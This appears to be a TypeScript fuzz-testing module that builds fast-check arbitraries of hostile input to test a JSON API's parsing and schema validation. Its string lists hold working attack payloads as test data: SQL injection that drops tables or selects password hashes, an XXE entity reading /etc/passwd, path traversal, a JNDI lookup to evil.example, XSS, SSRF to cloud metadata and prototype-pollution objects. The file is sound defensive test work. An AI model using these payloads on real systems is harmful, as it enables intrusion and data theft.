/**
 * fast-check arbitraries for hostile input, and a JSON writer that can express what JSON.stringify
 * cannot: `__proto__` as an own key, duplicate keys, 10 000-deep nesting without recursion, number
 * literals that parse to Infinity, raw fragments.
 */
import fc from 'fast-check'
import { acceptedTypes, isRequired, objectParts, JSON_TYPES, type JsonType } from './lib'

/** A verbatim JSON fragment. */
export class Raw {
  constructor(readonly text: string) {}
}
/** An object as an ordered list of entries (allows `__proto__` and duplicate keys). */
export class Obj {
  constructor(readonly entries: [string, unknown][]) {}
}

/** Serialises values made of JSON values, Raw and Obj. Iterative over Raw, so depth costs nothing. */
export function jsonText(v: unknown): string {
  if (v instanceof Raw) return v.text
  if (v instanceof Obj) return `{${v.entries.map(([k, x]) => `${JSON.stringify(k)}:${jsonText(x)}`).join(',')}}`
  if (Array.isArray(v)) return `[${v.map(jsonText).join(',')}]`
  if (v !== null && typeof v === 'object') return jsonText(new Obj(Object.entries(v)))
  if (typeof v === 'number' && !Number.isFinite(v)) return 'null'
  return JSON.stringify(v) ?? 'null'
}

// ---- hostile scalars -----------------------------------------------------------------------------

export const SQL_METACHARS = [
  "'",
  "''",
  '"',
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '"; DROP TABLE api_tokens; --',
  "') UNION SELECT key_sealed, password_hash FROM api_tokens, users --",
  '1; SELECT * FROM sqlite_master',
  '%',
  '%%',
  '_',
  '\\',
  '\\%',
  '*/',
  '/*',
  '--',
  '`',
  '?',
  '?1',
  ':name',
  '@p',
  '$1',
  'json_each(?)',
  "x' COLLATE NOCASE --",
  'NULL',
]

export const UNICODE_ODDITIES = [
  '\u0000',
  'a\u0000b',
  '\u202e\u0041\u0042', // right-to-left override
  '\u200b\u200c\u200d\u2060', // zero width
  '\ufeff', // BOM inside a value
  '\ud800', // lone high surrogate
  'x\udfffy', // lone low surrogate
  '\ufffe\uffff',
  'İıß\ufb00', // case-folding traps
  'e\u0301\u0301\u0301', // combining marks
  '\u2028\u2029\u0085', // line separators
  '😀👩‍👩‍👧‍👦🏳️‍🌈', // astral plane, ZWJ sequences
  '𝕏𝔸𝕄𝕃',
  'Ａｄｍｉｎ', // fullwidth "Admin"
  'ᴬᴰᴹᴵᴺ',
  'Z̴̡̪͎̖̝͖̗̹̲͙̜̰̥̞͖̆̈́̍̓͊̋͊͆́͝a̷̢̛͙̮̳͙̩̠̦̥̗̥͍̾̐̽͂̀̂͜l̵',
  '\t\r\n\v\f',
  '\u001b[31mred\u001b[0m', // terminal escapes
]

export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'isAdmin']

export const MISC_STRINGS = [
  '',
  ' ',
  '   padded   ',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  'NaN',
  'Infinity',
  '1e309',
  '<script>alert(1)</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  'admin',
  'ADMIN',
  'Administrator',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data/',
  'a'.repeat(5000),
]

const ALL_STRINGS = [...SQL_METACHARS, ...UNICODE_ODDITIES, ...PROTO_KEYS, ...MISC_STRINGS]

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...ALL_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...ALL_STRINGS), fc.constantFrom(...ALL_STRINGS)).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 120_000 }).map((n) => 'A'.repeat(n)) },
)

export const hostileNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 2 ** 64, 1e308, -1e308, 5e-324, 0.1),
  fc.constantFrom(new Raw('1e999'), new Raw('-1e999'), new Raw('123456789012345678901234567890'), new Raw('-0.0e-0'), new Raw('1E+2')),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
)

export const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(hostileString, hostileNumber, fc.boolean(), fc.constant(null))

// ---- hostile structures --------------------------------------------------------------------------

/** 10 000-deep (or other) nesting as text: arrays, objects, or a mix. */
export const deepNesting: fc.Arbitrary<Raw> = fc
  .tuple(fc.constantFrom(64, 1_000, 10_000, 50_000), fc.constantFrom('array', 'object', 'mixed'))
  .map(([n, kind]) => {
    if (kind === 'array') return new Raw('['.repeat(n) + ']'.repeat(n))
    if (kind === 'object') return new Raw('{"a":'.repeat(n) + '1' + '}'.repeat(n))
    return new Raw('[{"a":'.repeat(n / 2) + '0' + '}]'.repeat(n / 2))
  })

export const hugeArray: fc.Arbitrary<Raw> = fc
  .tuple(fc.constantFrom(1_000, 20_000, 100_000), fc.constantFrom('1', '"a"', 'null', '{}', '[]'))
  .map(([n, item]) => new Raw(`[${new Array(n).fill(item).join(',')}]`))

/** An object that tries prototype pollution, with duplicate keys. */
export const protoBomb: fc.Arbitrary<Obj> = fc
  .array(fc.tuple(fc.constantFrom(...PROTO_KEYS), fc.oneof(hostileScalar, fc.constant(new Obj([['isAdmin', true], ['polluted', 'yes']])))), {
    minLength: 1,
    maxLength: 4,
  })
  .map((e) => new Obj([...e, ['__proto__', new Obj([['polluted', 'yes'], ['roles', ['Administrator']]])], ['constructor', new Obj([['prototype', new Obj([['polluted', 'yes']])]])]]))

export const chaos: fc.Arbitrary<unknown> = fc.oneof(hostileScalar, deepNesting, hugeArray, protoBomb, fc.constant([]), fc.constant(new Obj([])))

/** A value of one of the given JSON types (used to put a wrong type where the schema wants another). */
export function valueOfType(t: JsonType): fc.Arbitrary<unknown> {
  switch (t) {
    case 'string':
      return hostileString
    case 'number':
      return hostileNumber
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    case 'array':
      return fc.oneof(fc.array(hostileScalar, { maxLength: 4 }), deepNesting.filter((r) => r.text.startsWith('[[')), hugeArray)
    case 'object':
      return fc.oneof(protoBomb, fc.constant(new Obj([])), deepNesting.filter((r) => r.text.startsWith('{')))
  }
}

/** A value whose JSON type the schema does not accept; null when the schema accepts anything. */
export function wrongTypeFor(schema: unknown): fc.Arbitrary<unknown> | null {
  const ok = acceptedTypes(schema)
  if (ok === 'any') return null
  const wrong = JSON_TYPES.filter((t) => !ok.has(t))
  if (wrong.length === 0) return null
  return fc.oneof(...wrong.map(valueOfType))
}

type ZDef = { type: string; [k: string]: any }
const zdef = (s: unknown) => (s as { _zod: { def: ZDef } })._zod.def

const extraKey = fc.oneof(fc.constantFrom(...PROTO_KEYS, ...SQL_METACHARS.slice(0, 8), ''), fc.string({ maxLength: 12 }))

/**
 * Values shaped like the schema (objects with its keys, arrays where it wants arrays) whose leaves are
 * hostile: SQL metacharacters, odd Unicode, huge strings, extreme numbers; now and then a node is
 * replaced by chaos (wrong type, deep nesting, a prototype bomb) and objects get extra keys.
 * Such a value may be valid — suites using it only assert that nothing breaks.
 */
export function shaped(schema: unknown, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 5) return hostileScalar
  const d = zdef(schema)
  let inner: fc.Arbitrary<unknown>
  switch (d.type) {
    case 'object': {
      const entries = Object.entries(d.shape as Record<string, unknown>)
      const members = entries.map(([k, v]) =>
        (isRequired(v) ? fc.oneof({ weight: 9, arbitrary: shaped(v, depth + 1).map((x) => [[k, x]]) }, { weight: 1, arbitrary: fc.constant([]) }) : fc.option(shaped(v, depth + 1).map((x) => [[k, x]]), { nil: undefined }).map((x) => x ?? [])) as fc.Arbitrary<[string, unknown][]>,
      )
      const extras = fc.array(fc.tuple(extraKey, hostileScalar), { maxLength: 2 })
      inner = fc.tuple(fc.tuple(...members), extras).map(([ms, ex]) => new Obj([...ms.flat(), ...(ex as [string, unknown][])]))
      break
    }
    case 'record':
      inner = fc.array(fc.tuple(extraKey, hostileScalar), { maxLength: 4 }).map((e) => new Obj(e as [string, unknown][]))
      break
    case 'array':
      inner = fc.array(shaped(d.element, depth + 1), { maxLength: 4 })
      break
    case 'tuple':
      inner = fc.tuple(...(d.items as unknown[]).map((i) => shaped(i, depth + 1)))
      break
    case 'string':
      inner = hostileString
      break
    case 'number':
    case 'int':
      inner = hostileNumber
      break
    case 'boolean':
      inner = fc.boolean()
      break
    case 'literal':
      inner = fc.oneof(fc.constantFrom(...(d.values as unknown[])), hostileString)
      break
    case 'enum':
      inner = fc.oneof(fc.constantFrom(...Object.values(d.entries as Record<string, unknown>)), hostileString)
      break
    case 'optional':
    case 'default':
    case 'prefault':
    case 'readonly':
    case 'nonoptional':
    case 'catch':
      inner = shaped(d.innerType, depth)
      break
    case 'nullable':
      inner = fc.oneof({ weight: 4, arbitrary: shaped(d.innerType, depth) }, { weight: 1, arbitrary: fc.constant(null) })
      break
    case 'union':
      inner = fc.oneof(...(d.options as unknown[]).map((o) => shaped(o, depth)))
      break
    case 'pipe':
      inner = zdef(d.in).type === 'transform' ? shaped(d.out, depth) : shaped(d.in, depth)
      break
    default:
      inner = hostileScalar
  }
  return fc.oneof({ weight: 12, arbitrary: inner }, { weight: 1, arbitrary: chaos })
}

/**
 * Bodies the schema certainly refuses: a wrong top-level type, an object missing a required member, or
 * an object with one member of a wrong type (that value may be deep nesting, a huge array, a prototype
 * bomb …); all of them carry extra hostile keys. Null when the schema would accept anything.
 */
export function invalidBody(schema: unknown): fc.Arbitrary<unknown> | null {
  const options: fc.Arbitrary<unknown>[] = []
  const top = wrongTypeFor(schema)
  if (top) options.push(top)
  const parts = objectParts(schema)
  if (parts && acceptedTypes(schema) !== 'any') {
    const keys = Object.entries(parts.shape)
    const required = keys.filter(([, v]) => isRequired(v)).map(([k]) => k)
    const base = shaped(schema) // an Obj most of the time; chaos otherwise (then certainly invalid too? no: filter)
    const asObj = base.filter((v): v is Obj => v instanceof Obj)
    if (required.length) {
      options.push(
        fc.tuple(asObj, fc.constantFrom(...required)).map(([o, k]) => new Obj(o.entries.filter(([key]) => key !== k))),
      )
    }
    const typed = keys.map(([k, v]) => [k, wrongTypeFor(v)] as const).filter((x): x is readonly [string, fc.Arbitrary<unknown>] => x[1] !== null)
    if (typed.length) {
      options.push(
        fc
          .tuple(asObj, fc.constantFrom(...typed))
          .chain(([o, [k, wrong]]) => wrong.map((w) => new Obj([...o.entries.filter(([key]) => key !== k), [k, w]]))),
      )
    }
  }
  return options.length ? fc.oneof(...options) : null
}

// ---- bytes and text ------------------------------------------------------------------------------

export const INVALID_JSON_TEXTS = [
  '{',
  '}',
  '[1,2',
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  '[1,]',
  'undefined',
  'NaN',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":-Infinity}',
  '{"a":01}',
  '{"a":0x10}',
  '{"a":.5}',
  '{"a":"\u0001"}',
  '{"a":"\\x41"}',
  '{"a":"\\u12"}',
  '"unterminated',
  '/* comment */ {}',
  '{} // comment',
  '{}{}',
  '{"a":1} trailing',
  '\u0000',
  '{"a" "b"}',
  '{a:1}',
  'True',
  "{\"a\":'b'}",
  '\ufeff\ufeff{}',
  '[' .repeat(100_000),
]

export const invalidJsonText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INVALID_JSON_TEXTS),
  fc.string({ minLength: 1, maxLength: 60 }).filter((s) => {
    try {
      JSON.parse(s)
      return false
    } catch {
      return true
    }
  }),
  fc
    .json({ maxDepth: 3 })
    .filter((s) => s.length > 1)
    .map((s) => s.slice(0, -1))
    .filter((s) => {
      try {
        JSON.parse(s)
        return false
      } catch {
        return true
      }
    }),
)

const BAD_UTF8: number[][] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0xaf], // overlong "/"
  [0xe0, 0x80, 0xaf], // overlong
  [0xed, 0xa0, 0x80], // encoded surrogate
  [0xf4, 0x90, 0x80, 0x80], // above U+10FFFF
  [0xe2, 0x82], // truncated
  [0x80], // lone continuation
  [0xf8, 0x88, 0x80, 0x80, 0x80], // 5-byte form
]

/** JSON-looking bodies with invalid UTF-8 inside a string, a key, or at the start. */
export const invalidUtf8Body: fc.Arbitrary<Uint8Array> = fc
  .tuple(fc.constantFrom(...BAD_UTF8), fc.constantFrom('value', 'key', 'start', 'end'))
  .map(([bad, where]) => {
    const enc = (s: string) => [...new TextEncoder().encode(s)]
    if (where === 'value') return new Uint8Array([...enc('{"name":"a'), ...bad, ...enc('b"}')])
    if (where === 'key') return new Uint8Array([...enc('{"'), ...bad, ...enc('":1}')])
    if (where === 'start') return new Uint8Array([...bad, ...enc('{}')])
    return new Uint8Array([...enc('{}'), ...bad])
  })

/** Content types a JSON route must refuse (none of them is application/json or application/*+json). */
export const NOT_JSON_TYPES = [
  'text/plain',
  'text/json',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/octet-stream',
  'application/javascript',
  'application/jsonp',
  'application/json-seq',
  'application/jsonl',
  'application',
  'json',
  '*/*',
  'application/json+xml',
  'text/html; charset=utf-8',
]

// ---- paths and queries ---------------------------------------------------------------------------

/** A path segment, already in URL form (raw percent signs included on purpose). */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  hostileString.filter((s) => s.length <= 4000).map((s) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '\ufffd'))),
  fc.constantFrom(
    '%',
    '%Z',
    '%ZZ',
    '%00',
    '%2F',
    '%2f..%2f',
    '%2e%2e',
    '%C0%AF',
    '%ED%A0%80',
    '%FF%FE',
    '%u0041',
    "'",
    '"',
    '%27%20OR%201%3D1',
    '<',
    '>',
    '`',
    '{',
    '}',
    '|',
    '^',
    '~',
    ';',
    ',',
    '*',
    '$',
    '!',
    '(',
    ')',
    '@',
    ':',
    '=',
    '&',
    '+',
    '-1',
    '0',
    '1e3',
    '1.5',
    '99999999999999999999999',
    '0x10',
    'a%20b',
    '__proto__',
    'constructor',
    '%E2%80%AE',
    'x'.repeat(5000),
  ),
)

/** A raw query string (without the leading '?') mixing the route's own keys with hostile ones. */
export function hostileQuery(keys: string[]): fc.Arbitrary<string> {
  const key = fc.oneof(
    ...(keys.length ? [fc.constantFrom(...keys)] : []),
    fc.constantFrom(...PROTO_KEYS, '__proto__[isAdmin]', 'constructor[prototype][x]', 'a[]', 'a[0]', '', '%', '%ZZ', "'"),
  )
  const value = fc.oneof(hostileSegment, fc.constantFrom('', '=', '%', '&', 'eq:', 'in:', 'nin:', 'eq:%27', '~eq:%25', 'gt:', 'lte:-1'))
  const pair = fc.tuple(key, value, fc.boolean()).map(([k, v, withEq]) => (withEq || v ? `${encodeURIComponent(k).replace(/%25/g, '%')}=${v}` : k))
  return fc.oneof(
    fc.array(pair, { minLength: 1, maxLength: 6 }).map((ps) => ps.join('&')),
    fc.constantFrom('&&&', '=', '==', '&=&', '?', '#', 'a=1&a=2&a=3', 'x'.repeat(16_000) + '=1'),
  )
}
